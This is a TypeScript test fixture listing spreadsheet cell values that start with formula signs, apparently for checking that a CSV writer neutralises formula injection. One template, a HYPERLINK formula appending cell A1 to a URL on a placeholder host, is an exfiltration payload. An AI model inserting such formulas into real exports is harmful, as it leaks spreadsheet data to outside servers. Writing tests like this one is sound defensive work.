import { FORMULA_SIGNS, LEADING_BLANKS } from '../../io/csvWriter';

/** Every value whose first character (or first after blanks) a spreadsheet may read as a formula start, and the mark itself. */
export const FORMULA_CELLS: string[] = [
  ...FORMULA_SIGNS.map((c) => `${c}1+1`),
  ...FORMULA_SIGNS.map((c) => `${c}HYPERLINK("http://x?"&A1)`),
  ...LEADING_BLANKS.flatMap((b) => FORMULA_SIGNS.map((c) => `${b}${b}${c}SUM(A1)`)),
  "'=already marked",
  "'plain with a quote",
  "''",
  '=',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(A1)',
];

